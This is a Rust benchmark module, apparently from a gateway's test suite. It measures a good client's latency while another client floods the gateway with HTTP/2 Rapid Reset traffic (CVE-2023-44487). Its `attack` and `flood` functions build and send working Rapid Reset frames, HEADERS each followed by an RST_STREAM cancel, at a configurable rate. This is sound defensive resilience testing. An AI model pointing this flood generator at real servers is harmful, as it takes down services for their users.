//! How long a good client waits while another one floods the gate: requests of HTTP/2 that are taken back at once
//! (threats E02, CVE-2023-44487).

use std::cell::Cell;
use std::net::SocketAddr;
use std::path::PathBuf;
use std::rc::Rc;
use std::time::Duration;

use anyhow::{Context as _, Result, ensure};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

use crate::cpu;
use crate::doorward::Doorward;
use crate::load::{Limit, Load};
use crate::pins::Pins;
use crate::setting::{open_service, request};
use crate::{clock, machine, upstream};

/// What is flooded, and for how long.
#[derive(clap::Args, Debug)]
pub struct FloodArguments {
    /// The program to measure.
    #[arg(long, value_name = "FILE")]
    doorward: PathBuf,
    /// A folder for data and logs; what an earlier run left there is removed.
    #[arg(long, value_name = "DIR")]
    folder: PathBuf,
    /// Rounds; in each, the good client is alone first and then not.
    #[arg(long, default_value_t = 5, value_parser = clap::value_parser!(u32).range(1..=100))]
    rounds: u32,
    /// How long the good client calls in each half of a round.
    #[arg(long, default_value_t = 3, value_parser = clap::value_parser!(u64).range(1..=60))]
    seconds: u64,
    /// Connections of the good client.
    #[arg(long, default_value_t = 8, value_parser = clap::value_parser!(u16).range(1..=256))]
    connections: u16,
    /// Frames that the other one sends in a second.
    #[arg(long, default_value_t = 100_000, value_parser = clap::value_parser!(u64).range(1_000..=10_000_000))]
    frames: u64,
}

/// Measures, and prints the table.
///
/// # Errors
/// When something does not start, or the good client gets anything but its answers.
pub async fn run(arguments: &FloodArguments, pins: &Pins) -> Result<()> {
    let folder = &arguments.folder;
    if folder.exists() {
        std::fs::remove_dir_all(folder).with_context(|| format!("cannot empty {}", folder.display()))?;
    }
    std::fs::create_dir_all(folder)?;
    let upstream = upstream::start().await?;
    let log = folder.join("doorward.log");
    let doorward = Doorward::start(&arguments.doorward, &folder.join("data"), &log, pins).await?;
    let mut apis = doorward.as_owner(1).await?;
    let host = open_service(&mut apis[0], &format!("http://{upstream}")).await?;
    let requests = [request(&host, None)];
    let mut good = Load::connect(doorward.gate, arguments.connections).await?;
    let time = Duration::from_secs(arguments.seconds);
    let limit = Limit { requests: usize::MAX, time };
    good.run(&requests, Limit { requests: 2_000, time }).await?;
    let resident = || cpu::resident_kib(doorward.process.id()).unwrap_or_default();
    let resident_before = resident();

    println!("{}", machine::describe(pins));
    println!("load average before: {}", machine::busyness());
    println!("\n| round | alone: requests, median, p99 | flooded: requests, median, p99 | p99, × alone |");
    println!("|---|---:|---:|---:|");
    let told = Rc::new(Told::default());
    for round in 1..=arguments.rounds {
        let alone = Waits::of(good.waits(&requests, limit).await?)?;
        let flood = flood(doorward.gate, host.clone(), arguments.frames, told.clone());
        let flooded = tokio::select! {
            waits = good.waits(&requests, limit) => Waits::of(waits?)?,
            ended = flood => return ended.context("the flood ended before the good client did"),
        };
        let ratio = flooded.p99.as_secs_f64() / alone.p99.as_secs_f64();
        println!("| {round} | {alone} | {flooded} | {ratio:.2} |");
    }
    println!("\nload average after: {}", machine::busyness());
    println!(
        "{} frames sent over {} connections; the gate ended {} of them; it holds {} MiB more than before",
        told.frames.get(),
        told.opened.get(),
        told.ended.get(),
        resident().saturating_sub(resident_before) / 1024
    );
    ensure!(told.ended.get() > 0, "the gate ended no connection of the flood");
    Ok(())
}

/// What became of the flood.
#[derive(Default)]
struct Told {
    frames: Cell<u64>,
    opened: Cell<u64>,
    ended: Cell<u64>,
}

/// Opens a connection now and then and sends as many frames over it as come to the rate. Ends with an error only.
async fn flood(gate: SocketAddr, host: String, frames: u64, told: Rc<Told>) -> Result<()> {
    let attack = attack(&host);
    let pause = Duration::from_secs_f64(FRAMES_AT_ONCE as f64 / frames as f64);
    loop {
        let mut stream = TcpStream::connect(gate).await?;
        told.opened.set(told.opened.get() + 1);
        let (attack, told) = (attack.clone(), told.clone());
        tokio::task::spawn_local(async move {
            // Whether the gate takes them all is the gate's to say.
            let _ = stream.write_all(&attack).await;
            told.frames.set(told.frames.get() + FRAMES_AT_ONCE);
            let ends = async {
                let mut scratch = [0; 4096];
                while stream.read(&mut scratch).await.unwrap_or(0) > 0 {}
                told.ended.set(told.ended.get() + 1);
                Ok(())
            };
            // One that is not ended is ours to close.
            let _ = clock::within(PATIENCE, "the end of a flooding connection", ends).await;
        });
        clock::pause(pause).await;
    }
}

/// A connection's worth: preface, settings, and requests that are each taken back at once.
fn attack(host: &str) -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    frame(&mut bytes, SETTINGS, 0, 0, &[]);
    let mut block = Vec::new();
    for (name, value) in [(":method", "GET"), (":scheme", "http"), (":path", "/orders"), (":authority", host)]
    {
        for text in [name, value] {
            block.extend(if text == name { &[0][..] } else { &[] });
            block.push(u8::try_from(text.len()).unwrap_or(u8::MAX));
            block.extend_from_slice(text.as_bytes());
        }
    }
    for request in 0..FRAMES_AT_ONCE / 2 {
        let stream = u32::try_from(2 * request + 1).unwrap_or(u32::MAX);
        frame(&mut bytes, HEADERS, END_HEADERS | END_STREAM, stream, &block);
        frame(&mut bytes, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
    }
    bytes
}

/// One frame (RFC 9113 §4.1).
fn frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    bytes.extend_from_slice(&length[1..]);
    bytes.extend_from_slice(&[kind, flags]);
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
}

/// How long the good client waited for its answers.
struct Waits {
    requests: usize,
    median: Duration,
    p99: Duration,
}

impl Waits {
    fn of(mut waits: Vec<Duration>) -> Result<Self> {
        waits.sort_unstable();
        let at = |share: usize| waits.get(waits.len() * share / 100).copied();
        let (Some(median), Some(p99)) = (at(50), at(99)) else { anyhow::bail!("nothing was answered") };
        Ok(Self { requests: waits.len(), median, p99 })
    }
}

impl std::fmt::Display for Waits {
    fn fmt(&self, formatter: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let milliseconds = |wait: Duration| wait.as_secs_f64() * 1e3;
        let (median, p99) = (milliseconds(self.median), milliseconds(self.p99));
        write!(formatter, "{}, {median:.2} ms, {p99:.2} ms", self.requests)
    }
}

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: u32 = 8;
const FRAMES_AT_ONCE: u64 = 1_000;
const PATIENCE: Duration = Duration::from_secs(2);

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attack_is_whole_frames() {
        let bytes = attack("open-1.us-central1.run.app");
        let (mut rest, mut kinds) = (&bytes[24..], Vec::new());
        while let [a, b, c, kind, ..] = *rest {
            kinds.push(kind);
            rest = &rest[9 + u32::from_be_bytes([0, a, b, c]) as usize..];
        }
        assert!(rest.is_empty());
        assert_eq!(kinds.len() as u64, FRAMES_AT_ONCE + 1);
        assert_eq!(kinds.iter().filter(|kind| **kind == RST_STREAM).count() as u64, FRAMES_AT_ONCE / 2);
    }

    #[test]
    fn waits_are_told_by_rank() {
        let waits = Waits::of((1..=200).rev().map(Duration::from_millis).collect()).unwrap();
        assert_eq!(waits.to_string(), "200, 101.00 ms, 199.00 ms");
        assert!(Waits::of(Vec::new()).is_err());
    }
}
